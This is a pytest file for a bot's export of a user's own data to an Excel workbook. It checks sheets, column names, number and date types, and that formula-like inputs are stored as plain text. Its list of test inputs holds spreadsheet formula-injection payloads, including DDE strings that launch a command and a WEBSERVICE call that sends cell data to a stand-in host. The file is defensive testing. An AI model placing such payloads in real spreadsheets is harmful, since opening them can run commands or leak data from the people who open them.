"""A workbook of somebody's data: a sheet a subject, and not one cell that computes."""

from datetime import date, datetime
from io import BytesIO
from typing import Final

import pytest
from openpyxl import load_workbook

from bot.domain.money import Money
from bot.domain.my_data import COLUMNS, MyData, Subject
from bot.papers.worker import draw
from bot.screens.my_data_book import my_data_book
from bot.texts.catalog import Texts
from bot.ui.paper import Workbook
from tests.screens import cast
from tests.voices import EN, VOICES

FORMULAS: Final = (
    *("=1+1", "=SUM(A1:A9)", '=HYPERLINK("https://x.example","pay")', "=cmd|' /C calc'!A0"),
    *("+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1"),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u202e=1+1", "\u200b=1+1", "\x00=1+1"),
    *("=1+1\x00", '=WEBSERVICE("https://x.example/"&A1)', "='other.xls'#$A1", "%0A=1+1"),
)
NOON: Final = datetime(2026, 11, 23, 12, tzinfo=cast.SHANGHAI_TIME)


def data_of(**rows: tuple[dict[str, object], ...]) -> MyData:
    return MyData(NOON, {subject: rows.get(subject.value, ()) for subject in Subject})  # type: ignore[arg-type,misc]


def city(name: object) -> dict[str, object]:
    return {"city": name, "chosen": NOON}


def book_of(order: Workbook):  # type: ignore[no-untyped-def] # noqa: ANN201 - openpyxl's own
    return load_workbook(BytesIO(draw(order).content))


def test_twenty_formulas_are_texts() -> None:
    assert len(FORMULAS) >= 20
    order = my_data_book(EN, data_of(cities=tuple(city(word) for word in FORMULAS)), "n")
    cells = [row[0] for row in book_of(order).worksheets[0].iter_rows(min_row=2)]
    assert len(cells) == len(FORMULAS)
    for cell, word in zip(cells, FORMULAS, strict=True):
        assert (cell.data_type, cell.quotePrefix) == ("s", True), ascii(word)
        assert "1+1" in str(cell.value) or str(cell.value) in word


@pytest.mark.parametrize("texts", VOICES, ids=lambda texts: texts.language.value)
def test_every_subject_has_a_sheet_and_every_column_a_name(texts: Texts) -> None:
    rows = {subject.value: (dict.fromkeys(columns),) for subject, columns in COLUMNS.items()}
    book = book_of(my_data_book(texts, data_of(**rows), "n"))
    assert len(book.sheetnames) == len(Subject)
    for sheet in book:
        assert len(sheet.title) <= 31
        heads = [cell.value for cell in sheet[1]]
        assert all(heads)
        assert len(set(heads)) == len(heads)


def test_amounts_are_numbers_days_are_days_and_codes_are_words() -> None:
    row = dict.fromkeys(COLUMNS[Subject.CARDS]) | {
        "number": "A1",
        "issued": date(2026, 8, 1),
        "kind": cast.CARD.kind,
    }
    balance = {"amount": Money(123_456), "as_of": NOON}
    book = book_of(my_data_book(EN, data_of(cards=(row,), balance=(balance,)), "n"))
    amount, as_of = next(book["Account balance"].iter_rows(min_row=2))
    assert (amount.value, as_of.value) == (1234.56, "2026-11-23 12:00")
    cells = {cell.column: cell for cell in next(book["Cards"].iter_rows(min_row=2))}
    assert cells[4].is_date
    assert cells[2].value == EN.plain("card.kind.physical")


def test_answers_of_yes_and_no_and_months_are_words() -> None:
    session = {"has_pin": True, "shows_amounts": False, "hide_minutes": 10}
    row = dict.fromkeys(COLUMNS[Subject.SESSION]) | session
    book = book_of(my_data_book(EN, data_of(session=(row,)), "n"))
    assert [cell.value for cell in book["Session"][2]][:3] == ["yes", "no", "10"]
